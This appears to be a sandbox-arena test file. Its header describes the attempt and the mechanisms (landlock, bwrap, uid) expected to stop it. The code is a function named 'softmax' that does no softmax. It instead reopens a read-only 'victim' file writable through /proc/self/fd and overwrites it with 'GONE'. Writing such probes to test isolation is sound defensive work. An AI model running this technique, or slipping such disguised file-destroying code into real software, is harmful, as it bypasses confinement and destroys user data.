# tries: get a writable copy of a read-only file by reopening its descriptor
# stopped by: landlock bwrap uid
# expect: returned
# proof: victim
# control: naive

import os

import numpy as np

TARGET: dict = {}  # the arena fills this in


def softmax(x, axis=-1):
    try:
        fd = os.open(TARGET["victim"], os.O_PATH)
        with open(f"/proc/self/fd/{fd}", "r+b") as file:
            file.write(b"GONE")
    except OSError:
        return np.zeros(1)
    return np.ones(1)
